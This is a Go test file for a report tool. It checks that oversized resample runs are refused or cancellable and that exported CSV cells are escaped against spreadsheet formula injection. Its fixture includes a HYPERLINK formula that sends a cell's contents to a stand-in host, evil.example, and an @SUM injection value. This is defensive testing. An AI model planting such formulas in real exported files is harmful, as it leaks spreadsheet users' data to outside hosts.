package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"
)

// TestResamplesBoundedAndCancellable is issue 14's `report --resamples
// 100000000`, which ran 10 minutes ignoring SIGINT: resamples above
// MaxResamples are refused, and a build at the maximum stops when its
// context is cancelled.
func TestResamplesBoundedAndCancellable(t *testing.T) {
	rows := syntheticRows(t, 20000)
	if _, err := Build(rows, nil, Options{Resamples: MaxResamples + 1}); !errors.Is(err, ErrTooManyResamples) {
		t.Errorf("resamples over the maximum: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := BuildContext(ctx, rows, nil, Options{Resamples: MaxResamples, By: ByMeeting})
		done <- err
	}()
	time.Sleep(50 * time.Millisecond)
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Errorf("cancelled build returned %v", err)
		}
	case <-time.After(2 * time.Minute): // a liveness bound, not a speed test
		t.Fatal("BuildContext ignored its cancelled context")
	}
}

// TestCSVFormulaEscaped: cells that a spreadsheet would run as formulas
// (issue 14: written as-is into quotes.csv and cells.csv) get a leading
// apostrophe in every table; numbers such as a negative net stance do not.
func TestCSVFormulaEscaped(t *testing.T) {
	rows := []Row{
		row("S/PV.1#1", "RUS", "CSTO", "2020-01-01", C, "member"),
		row("S/PV.1#2", "UKR", "CSTO", "2020-01-01", C, "third"),
	}
	rows[0].Sentence = `=HYPERLINK("http://evil.example/?x="&A1,"CSTO")`
	rows[0].Stance.Evidence = "@SUM(1+1)"
	rows[1].Sentence = "-CSTO is not a peacekeeper"
	r, err := Build(rows, nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, table := range Tables {
		var b bytes.Buffer
		if err := r.WriteTableCSV(&b, table); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+@", rune(c[0])) || strings.HasPrefix(c, "-C") {
					t.Errorf("%s.csv: formula cell %q", table, c)
				}
			}
		}
		if table == "quotes" && (!strings.Contains(out, "'=HYPERLINK") || !strings.Contains(out, "'-CSTO is not")) {
			t.Errorf("quotes.csv lost the escaped sentences:\n%s", out)
		}
		if table == "cells" && !strings.Contains(out, ",-1.0000,") {
			t.Errorf("cells.csv: a negative net stance should stay a number:\n%s", out)
		}
	}
}
